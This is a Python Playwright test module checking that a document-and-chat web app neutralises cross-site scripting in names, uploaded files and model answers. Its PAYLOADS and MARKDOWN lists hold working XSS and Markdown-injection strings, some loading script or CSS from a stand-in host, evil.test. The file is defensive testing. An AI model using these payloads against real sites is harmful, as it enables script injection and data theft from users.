"""Names, documents and answers made of what runs in careless pages: here it is only shown."""

import json
import re
import tempfile
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Locator, Page, expect

from likeopt.config import Config
from likeopt.services import Services
from likeopt.storage import audit, groups, people
from likeopt.web import cookies
from tests import guest, servers
from tests.e2e.conftest import Open, Visit, is_read, with_model
from tests.servers import wait_until
from tests.stub_openai import StubOpenAI
from tests.web.conftest import let_in

# A host that nobody has (RFC 6761): a request to it is refused below, and remembered.
EVIL = "https://evil.test"
# Each would show that it ran: it asks for something outside, opens a dialog, or sets `window.hit`.
RUN = "window.hit=1,alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f'"><img src={EVIL}/i.png onerror={RUN}>',
    f"'-{RUN}-'",
    f"</title><script src={EVIL}/x.js></script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<style>@import '{EVIL}/x.css'</style>",
    f"<math><mtext><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
]
# What only means something in an answer's Markdown.
MARKDOWN = [
    f"![pixel]({EVIL}/pixel.png)",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[x]: javascript:{RUN}\n\n[click][x]",
    f"<javascript:{RUN}>",
    f'[click]({EVIL} "onmouseover={RUN}")',
    f"```html\n</code></pre><img src=x onerror={RUN}>\n```",
    f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
    f"<link rel=stylesheet href={EVIL}/x.css><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input autofocus onfocus={RUN}><button>Sign in</button></form>",
    f"<object data={EVIL}></object><embed src={EVIL}><video poster={EVIL}/p.png>",
]
EVERYTHING = "\n\n".join(PAYLOADS + MARKDOWN)
# Of names: 200 characters at most, and file names have no slash.
NAME = f"<img src=x onerror={RUN}>"


class Watched(NamedTuple):
    """What a visit to hostile things has led to; everything stays empty."""

    visit: Visit
    dialogs: list[str]
    outside: list[str]


@pytest.fixture(scope="module")
def library() -> Iterator[tuple[str, StubOpenAI, dict[str, str]]]:
    """A server full of hostile names and documents, a model that obeys, and ids."""
    with with_model() as (url, stub):
        stub.default = EVERYTHING
        ids = {}
        for number, payload in enumerate(PAYLOADS):
            made = call(url, "POST", "/api/v1/collections", {"name": payload[:100]})
            ids[f"collection{number}"] = made["id"]
        html = f"<title>{NAME}</title><h1>&lt;img src=x onerror={RUN}&gt;</h1><p>The wallaby.</p>"
        for name, text in (
            (f"{NAME}.md", f"# {NAME}\n\nThe wallaby.\n\n{EVERYTHING}"),
            (f"{NAME}.html", f"{html}{EVERYTHING}"),
            (f"{NAME}.txt", f"The wallaby.\n\n{EVERYTHING}"),
        ):
            ids[name.rpartition(".")[2]] = upload(url, name, text)
        wait_until(lambda: is_read(url), "the hostile documents")
        asked = {"question": f"The wallaby? {PAYLOADS[1]}"}
        ids["conversation"] = call(url, "POST", "/api/v1/chat", asked)["conversation_id"]
        path = f"/api/v1/conversations/{ids['conversation']}"
        call(url, "PATCH", path, {"title": NAME})
        yield url, stub, ids


def call(url: str, method: str, path: str, body: Any) -> Any:
    headers = {"Content-Type": "application/json"} | guest.HEADERS
    request = urllib.request.Request(url + path, json.dumps(body).encode(), headers, method=method)
    with urllib.request.urlopen(request) as response:
        return json.load(response)


def upload(url: str, name: str, text: str) -> str:
    quoted = name.replace('"', "%22")
    body = (
        f'--b\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n\r\n'
        f'{text}\r\n--b\r\nContent-Disposition: form-data; name="tags"\r\n\r\n{NAME[:40]}'
        "\r\n--b--\r\n"
    )
    headers = {"Content-Type": "multipart/form-data; boundary=b"} | guest.HEADERS
    request = urllib.request.Request(f"{url}/api/v1/documents", body.encode(), headers)
    with urllib.request.urlopen(request) as response:
        found: str = json.load(response)["items"][0]["document"]["id"]
    return found


@pytest.fixture
def watched(open_page: Open, library: tuple[str, StubOpenAI, dict[str, str]]) -> Iterator[Watched]:
    """A visit in which whatever runs, asks outside or breaks the policy is noticed."""
    yield from watching(open_page(library[0], "en", "desktop"), library[0])


def watching(visit: Visit, url: str) -> Iterator[Watched]:
    """The visit; at its end, nothing may have been noticed."""
    found = Watched(visit, [], [])
    page = found.visit.page
    host = urlsplit(url).netloc

    def on_request(route: Any) -> None:
        target = urlsplit(route.request.url)
        if target.scheme in ("http", "https", "ws", "wss") and target.netloc != host:
            found.outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    def on_dialog(dialog: Any) -> None:
        found.dialogs.append(dialog.message)
        dialog.dismiss()

    page.context.route("**/*", on_request)
    page.on("dialog", on_dialog)
    yield found
    # `complaints` of the console, policy violations among them, are looked at by `open_page`.
    assert (found.dialogs, found.outside) == ([], [])


def nothing_ran(page: Page) -> None:
    """Neither a script nor an element that could run one has come of a text."""
    assert page.evaluate("window.hit") is None
    made = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap((e) => [
            ...(e.matches('iframe[srcdoc],object,embed,base,form[action],meta[http-equiv]')
                || e.matches('style:not(head > style:first-of-type)')
                ? [e.outerHTML] : []),
            ...[...e.attributes]
                .filter((a) => /^on/i.test(a.name)
                    || /^(javascript|data:text|vbscript)/i.test(a.value))
                .map((a) => `${e.tagName} ${a.name}=${a.value}`),
            ...(e.matches('script') && new URL(e.src || '/', location).origin !== location.origin
                ? [e.outerHTML] : []),
        ])"""
    )
    assert made == []


def shown(place: Locator) -> None:
    """The payload of names can be read, as text."""
    expect(place.filter(has_text=NAME).first).to_be_visible()


def test_names_in_the_library(watched: Watched) -> None:
    watched.visit.go("/library")
    page = watched.visit.page
    shown(page.locator("li.document"))
    nothing_ran(page)
    expect(page.locator("option", has_text=PAYLOADS[0]).first).to_be_attached()
    nothing_ran(page)


@pytest.mark.parametrize("kind", ["md", "html", "txt"])
def test_text_and_original_of_a_document(
    watched: Watched, library: tuple[str, StubOpenAI, dict[str, str]], kind: str
) -> None:
    document = library[2][kind]
    page = watched.visit.page
    watched.visit.go(f"/library/{document}")
    expect(page.locator(".viewer-text")).to_contain_text("The wallaby.")
    nothing_ran(page)
    watched.visit.go(f"/api/v1/documents/{document}/original")
    expect(page.locator("body")).to_contain_text("wallaby")
    assert page.evaluate("window.hit") is None
    # The browser says what it did not load and run: that is the policy of originals at work.
    watched.visit.allow("Content Security Policy|Blocked script execution|sandbox|Failed to load")


def test_answer_title_and_sources(
    watched: Watched, library: tuple[str, StubOpenAI, dict[str, str]]
) -> None:
    library[1].say(f"The wallaby [1].\n\n{EVERYTHING}\n\nThe end [1].")
    page = watched.visit.page
    watched.visit.go("/")
    answer = watched.visit.ask(f"What is the wallaby? {PAYLOADS[1]} {MARKDOWN[0]}")
    expect(answer).to_contain_text("The end")
    expect(page.locator(".question").first).to_contain_text(PAYLOADS[1])
    nothing_ran(page)
    for link in answer.locator("a[href]").all():
        assert re.match(r"https?:|mailto:|/", link.get_attribute("href") or "")
    assert answer.locator("img, iframe, video, form, object, embed, svg [onload]").count() == 0
    answer.locator(".chip").first.click()
    expect(page.locator(".source-panel mark").first).to_be_visible()
    nothing_ran(page)


def test_conversation_in_the_history(
    watched: Watched, library: tuple[str, StubOpenAI, dict[str, str]]
) -> None:
    page = watched.visit.page
    watched.visit.go(f"/c/{library[2]['conversation']}")
    expect(page.locator("header h1")).to_have_text(NAME)
    shown(page.locator(".history-row"))
    expect(page.locator("article.answer")).to_contain_text("constructor")
    assert page.title().startswith(NAME)
    nothing_ran(page)


@pytest.fixture(scope="module")
def administered() -> Iterator[tuple[str, str]]:
    """A server where people have hostile names, and the cookie of its administrator."""
    with tempfile.TemporaryDirectory(prefix="lo-e2e-", ignore_cleanup_errors=True) as home:
        config = Config(data_dir=Path(home) / "data")
        with servers.like_opt(Path(home)) as url:
            services = Services(config)
            admin = let_in(services, "admin@example.org", role="admin")
            clock = services.clock

            def fill(c: Any) -> None:
                people.update(c, admin.user.id, name=NAME)
                for number, payload in enumerate(PAYLOADS):
                    groups.create(c, clock, payload[:100])
                    email = f"p{number}@example.org"
                    people.create(c, clock, name=payload[:100], email=email, role="member")
                    entry = audit.Entry(
                        action="group.create", via="cli", actor_name=NAME, object_name=payload[:100]
                    )
                    audit.write(c, clock, entry)

            services.db.write(fill)
            signature = cookies.sign(services.secret_key, "session", admin.cookie_id)
            yield url, f"{admin.cookie_id}.{signature}"
            services.close()


@pytest.mark.parametrize("path", ["/admin/people", "/admin/audit", "/account"])
def test_pages_of_people_and_events(
    open_page: Open, administered: tuple[str, str], path: str
) -> None:
    url, cookie = administered
    for watched in watching(open_page(url, "en", "desktop"), url):
        page = watched.visit.page
        page.context.add_cookies([{"name": cookies.NAME, "value": cookie, "url": url}])
        watched.visit.go(path)
        place = page.locator("body" if path == "/account" else "main")
        expect(place).to_contain_text(PAYLOADS[1] if path != "/account" else "onerror")
        expect(page.locator("main h1")).to_be_visible()
        nothing_ran(page)
